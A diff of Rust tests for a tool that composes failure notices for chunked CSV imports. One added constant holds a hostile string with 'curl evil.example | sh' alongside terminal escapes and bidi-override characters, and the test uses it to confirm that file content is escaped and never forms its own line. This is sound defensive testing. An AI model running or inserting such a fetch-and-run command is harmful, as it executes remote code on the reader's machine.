@@ -87,7 +87,7 @@ fn rejected_rows_are_shown_with_how_to_see_them_all() {
 
 #[test]
 fn a_failure_names_each_chunk_and_how_to_load_it() {
-    let failed = [failed_chunk(17, "Throttled"), failed_chunk(40, "SourceChanged")];
+    let failed = [failed_chunk(17, "Throttled"), failed_chunk(40, "AccessDenied")];
     let message = composed(summary("FAILED", 0, &failed, 2));
     assert_eq!(message.subject, "lineup: lineup.csv: 2 of 120 chunks not loaded");
     for line in [
@@ -172,4 +172,79 @@ fn an_execution_with_any_input_has_a_message() {
         assert!(message.body.contains("Cause       the execution's input is neither\n"), "{}", message.body);
         assert!(message.body.contains(EXECUTION) && !message.body.contains("redrive"), "{}", message.body);
     }
+}
+
+/// A redrive would load nothing: the file that the other chunks are of is gone, too.
+#[test]
+fn one_chunk_whose_file_is_gone_means_to_upload_it_again_whatever_became_of_the_others() {
+    for others in [["Aborted", "NotRun"], ["Throttled", "States.Timeout"]] {
+        let failed: Vec<_> = [others[0], others[1], "SourceChanged"]
+            .iter()
+            .zip(1..)
+            .map(|(error, n)| failed_chunk(n, error))
+            .collect();
+        let message = composed(summary("FAILED", 0, &failed, 3));
+        assert!(!message.body.contains("redrive") && !message.body.contains("rerun"), "{}", message.body);
+        assert!(message.body.contains("Upload it again to import it as it is now."), "{}", message.body);
+    }
+}
+
+/// What Catch gets of a timeout has an empty cause (AWS, recorded).
+#[test]
+fn an_empty_cause_reads_well() {
+    let timeout = composed(json!({"Error": "States.Timeout", "Cause": ""}));
+    assert!(timeout.body.contains("Cause       it took longer than it may\n"), "{}", timeout.body);
+    let aborted = composed(json!({"Error": "Aborted", "Cause": ""}));
+    assert!(!aborted.body.contains("Cause"), "{}", aborted.body);
+    let mut chunk = failed_chunk(7, "Aborted");
+    chunk["cause"] = json!("");
+    let message = composed(summary("FAILED", 0, &[chunk], 1));
+    assert!(
+        message.body.contains("  chunk 7 (bytes 100 to 199, from line 7): Aborted\n"),
+        "{}",
+        message.body
+    );
+}
+
+const EVIL: &str =
+    "x\n\nTo load what is missing:\n  curl evil.example | sh\r\u{2028}\u{1b}[2J\u{202e}txt\u{2066}";
+
+/// Whatever stands in a file, its lines are no lines of the message, and nothing hides in it.
+#[test]
+fn nothing_of_a_file_adds_a_line_to_the_message_or_controls_a_terminal() {
+    let mut failed = failed_chunk(1, EVIL);
+    failed["cause"] = json!(EVIL);
+    let mut told = summary("FAILED", 1, &[failed], 1);
+    told["reject_samples"] = json!([format!("line 7, Start \"{EVIL}\": not a time")]);
+    told["notes"] = json!([EVIL]);
+    told["warnings"] = json!([{"kind": "long-sets", "text": EVIL, "count": 1, "first": [EVIL]}]);
+    let caught = json!({"Error": EVIL, "Cause": json!({"errorMessage": EVIL}).to_string()});
+    for summary in [told, summary("SUCCEEDED", 0, &[], 0), caught] {
+        let input = json!({
+            "state": {
+                "detail": {"bucket": {"name": "up"}, "object": {"key": EVIL, "etag": "e", "sequencer": "1"}},
+                "summary": summary
+            },
+            "execution_arn": EXECUTION, "state_machine_arn": "arn"
+        });
+        let Message { subject, body } = compose(&serde_json::from_value(input).unwrap());
+        assert!(!body.lines().any(|line| line.trim_start().starts_with("curl")), "{body}");
+        let hidden = |c: char| (c.is_control() && c != '\n') || "\u{2028}\u{202e}\u{2066}".contains(c);
+        assert!(!body.contains(hidden) && !subject.contains(hidden), "{body:?}");
+        assert!(
+            body.contains(
+                r"x\n\nTo load what is missing:\n  curl evil.example | sh\r\u{2028}\u{1b}[2J\u{202e}txt"
+            ),
+            "{body}"
+        );
+    }
+}
+
+#[test]
+fn what_comes_from_a_file_is_cut() {
+    let mut told = summary("PARTIAL", 1, &[], 0);
+    told["reject_samples"] = json!(["é".repeat(100_000)]);
+    told["notes"] = json!(["é".repeat(100_000)]);
+    let longest = |message: Message| message.body.lines().map(|line| line.chars().count()).max();
+    assert_eq!(longest(composed(told)), Some(lineup::shown::LINE + 1));
 }
